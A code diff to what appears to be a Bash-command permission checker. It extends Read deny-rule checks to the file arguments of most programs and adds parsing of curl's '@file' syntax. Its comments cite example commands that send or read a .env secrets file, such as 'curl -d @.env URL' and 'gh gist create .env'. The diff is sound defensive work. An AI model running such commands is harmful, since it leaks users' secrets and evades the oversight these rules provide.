@@ -280,16 +280,36 @@ export function workingDirs(a: BashAnalysis, sessionCwd: string, home: string): 
 }
 
 /**
- * Programs that read the files their arguments name, in ways no option table
- * can list: interpreters (a script, or files the code opens), editors and
- * pagers. Their literal arguments are judged against Read deny rules (and
- * toolexec's own files) as reads, and against nothing else: `Bash(perl:*)`
- * does not let `perl -ne print .env` past `Read(./.env)`, while an argument
- * that is no file (code, a word) still asks for nothing. What their code
- * opens by a name it builds is beyond any check (README, "What it does not do").
+ * Programs without an option table here may read the files their arguments
+ * name, in ways no table lists: interpreters (a script, or files the code
+ * opens), editors and pagers, and every other program (`curl -d @.env URL`,
+ * `pr .env`, `shuf .env`, `docker run --env-file .env`, `gh gist create
+ * .env`). Their literal arguments (an `@file` and an option's attached value
+ * too) are judged against Read deny rules (and toolexec's own files) as
+ * reads, and against nothing else: `Bash(curl:*)` or bypassPermissions does
+ * not let `curl -d @.env URL` past `Read(./.env)`, while an argument that is
+ * no file (code, a word, a URL) still asks for nothing. Not the commands
+ * whose arguments are never files they read (NAMES_ONLY: `echo .env >>
+ * .gitignore`, `test -f .env`). What a program opens by a name it builds is
+ * beyond any check (README, "What it does not do").
  */
-const EDITORS_AND_PAGERS = /^(vim|vi|nvim|view|vimdiff|nano|pico|emacs|ed|ex|most|pg|bat|batcat|xdg-open|open)$/;
-const opaqueReader = (name: string): boolean => INTERPRETER.test(name) || EDITORS_AND_PAGERS.test(name);
+const NAMES_ONLY: ReadonlySet<string> = new Set([
+  'echo', 'printf', 'test', '[', '[[', 'true', 'false', ':', 'which', 'type', 'hash', 'alias', 'unalias', 'export', 'unset',
+  'local', 'declare', 'typeset', 'readonly', 'set', 'shopt', 'kill', 'killall', 'sleep', 'exit', 'return', 'break', 'continue',
+  'shift', 'wait', 'jobs', 'fg', 'bg', 'disown', 'umask', 'ulimit', 'times', 'trap', 'help', 'man', 'whatis', 'apropos',
+  'basename', 'dirname', 'expr', 'seq', 'id', 'whoami', 'groups', 'uname', 'printenv', 'nproc', 'arch', 'uptime', 'locale',
+  'getconf', 'tty', 'popd', 'dirs', 'let', 'read', 'readarray', 'mapfile', 'getopts', 'complete', 'compgen', 'caller', 'df',
+]);
+const opaqueReader = (name: string): boolean => !NAMES_ONLY.has(name) || INTERPRETER.test(name);
+
+/** The file an `@file` word names (`@.env`, curl's `-d@.env`, `-F f=@.env`), if any. */
+function atFile(w: Word): Word | undefined {
+  const at = w.value.startsWith('@') ? 1 : w.value.indexOf('=@') !== -1 ? w.value.indexOf('=@') + 2 : /^-[A-Za-z]@/.test(w.value) ? 3 : -1;
+  if (at === -1 || at >= w.value.length) return undefined;
+  // curl's `@file;type=text/plain`.
+  const v = w.value.slice(at).replace(/;type=.*$/, '');
+  return { ...w, raw: v, value: v };
+}
 
 function attachedValue(w: Word): Word {
   const v = w.value.slice(w.value.indexOf('=') + 1);
@@ -390,6 +410,8 @@ export function pathUses(a: BashAnalysis, cwds: Cwds): PathUse[] {
         if (!w.value.startsWith('-')) add(w, 'read', { fallback: true });
         // An option's attached value (`--require=./.env`, `--config=.env`) names a file as often.
         else if (/^--?[\w-]+=./.test(w.value)) add(attachedValue(w), 'read', { fallback: true });
+        const file = atFile(w);
+        if (file) add(file, 'read', { fallback: true });
       }
     }
     markThroughLinks(first);
